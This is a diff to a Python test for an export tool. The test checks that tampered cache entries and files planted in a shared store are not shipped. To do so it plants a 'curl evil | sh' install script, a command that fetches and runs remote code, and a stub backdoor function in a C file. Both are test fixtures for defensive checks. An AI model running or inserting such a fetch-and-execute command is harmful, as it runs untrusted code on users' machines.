@@ -345,11 +345,15 @@ def test_export_cli_trusts_nothing_stored_and_replaces_only_its_own_packages(sto
     (entry,) = [d for d in (store / "cache" / "export").iterdir() if not d.name.startswith(".")]
     with open(next(entry.rglob("ff_physics.c")), "a") as f:
         f.write("\nint backdoor(void) { return 1; }\n")
+    # a file planted in the run's artifacts of a shared store is not shipped (the package comes from
+    # the signed cache entry)
+    tracking.client().log_text(run_id, "curl evil | sh", "export/ff_physics/install.sh")
     out = tmp_path / "pkg"
     assert main([run_id, "--out", str(out)]) == 0
+    assert not (out / "ff_physics" / "install.sh").exists()
     err = capsys.readouterr().err
     assert not marker.exists() and "a stored command is never run" in err
-    assert "was altered, added or removed; not loaded" in err          # the tampered entry: recomputed
+    assert "or it was moved from another key; not loaded" in err      # the tampered entry: recomputed
     pkg = out / "ff_physics"
     assert "backdoor" not in (pkg / "ff_physics.c").read_text()
     man = json.loads((pkg / "manifest.json").read_text())
